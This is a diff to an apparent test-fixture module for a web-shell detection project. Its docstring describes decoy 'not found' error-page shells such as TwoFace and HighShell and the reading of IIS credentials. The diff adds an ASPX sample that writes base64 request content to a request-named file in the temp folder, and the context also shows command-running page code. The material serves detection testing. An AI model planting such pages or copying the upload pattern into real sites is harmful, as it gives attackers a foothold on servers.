@@ -1,17 +1,23 @@
 """Rule and kept findings from the twelfth unseen collection, shells as defenders met them (issue 14, helper
 X14).
 
-On first sight the own rules found all three shells of the collection (BENCHMARKS.md, "Unseen shells,
-twelfth collection"), but one of them - MITRE CTID's re-build of OilRig's TwoFace page as Exchange's
-/EWS/contact.aspx - only through the behaviour analysis: no YARA rule of ours fired. Its disguise is a
-family trait met in several intrusions (TwoFace, APT34's HighShell, the "404 input shell" of Operation
-TaskMasters): the page shows the server's own "not found" error page while its code runs commands for the
-right request. ``data/rules/decoy_error_pages.yar`` carries that shape; the pages below reproduce it in C#,
-JScript and VB and in a handler, next to the ordinary pages closest to it (custom error pages that copy
-the stock wording, a page borrowing one phrase for its own message, a help page quoting the stock page).
-A second rule, ``data/rules/iis_credentials.yar``, carries a capability of the collection's sunue file manager (and of ASPXSpy's "IIS Spy") that nothing of ours saw when it stands alone in a page, probed after the first-sight run: reading the passwords IIS stores for anonymous access, virtual directories and application pool identities (metabase, Microsoft.Web.Administration, appcmd); its ordinary neighbours are a site list, provisioning pages that set those identities and a help page quoting the command. A last group keeps found the shapes of this collection that one check alone found. All pages were
-written for these tests: nothing is compiled or run, commands and keys are placeholders, and none is a
-copy of a real shell.
+On first sight the own rules found all three shells of the collection (BENCHMARKS.md, "Unseen shells, twelfth
+collection"), but one of them - MITRE CTID's re-build of OilRig's TwoFace page as Exchange's /EWS/contact.aspx -
+only through the behaviour analysis: no YARA rule of ours fired. Its disguise is a family trait met in several
+intrusions (TwoFace, APT34's HighShell, the "404 input shell" of Operation TaskMasters): the page shows the
+server's own "not found" error page while its code runs commands for the right request.
+``data/rules/decoy_error_pages.yar`` carries that shape; the pages below reproduce it in C#, JScript and VB and
+in a handler, next to the ordinary pages closest to it (custom error pages that copy the stock wording, a page
+borrowing one phrase for its own message, a help page quoting the stock page). A second rule,
+``data/rules/iis_credentials.yar``, carries a capability of the collection's sunue file manager (and of
+ASPXSpy's "IIS Spy") that nothing of ours saw when it stands alone in a page, probed after the first-sight run:
+reading the passwords IIS stores for anonymous access, virtual directories and application pool identities
+(metabase, Microsoft.Web.Administration, appcmd); its ordinary neighbours are a site list, provisioning pages
+that set those identities and a help page quoting the command. A last group keeps found the shapes of this
+collection that one check alone found, and TwoFace's upload of base64 request text to a request-named file in
+%TEMP% through a FileStream (found since A3's 5d754fc, written on this collection's request). All pages were
+written for these tests: nothing is compiled or run, commands and keys are placeholders, and none is a copy of a
+real shell.
 """
 
 from __future__ import annotations
@@ -306,6 +312,19 @@ BEHAVIOUR_KEPT: list[tuple[str, str, str, str]] = [
         "  p.StartInfo.RedirectStandardOutput = true; p.StartInfo.UseShellExecute = false;\n"
         "  p.Start(); return p;\n}\n</script>\n"
         '<html><body><pre runat="server" id="Out"/></body></html>\n',
+    ),
+    (
+        "cs-base64-upload-to-temp-request-name",
+        ".aspx",
+        "file-write-content",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "protected void Page_Load(object s, EventArgs e) {\n"
+        '  string body = Request.Form.Get("b"); string name = Request.Form.Get("n");\n'
+        "  if (body != null && name != null) {\n"
+        '    byte[] d = Convert.FromBase64String(body.Replace(" ", "+"));\n'
+        "    string path = System.IO.Path.Combine(System.IO.Path.GetTempPath(), name);\n"
+        "    using (var w = new System.IO.FileStream(path, System.IO.FileMode.Create)) { w.Write(d, 0, d.Length); }\n"
+        "  }\n}\n</script>\n",
     ),
 ]
 
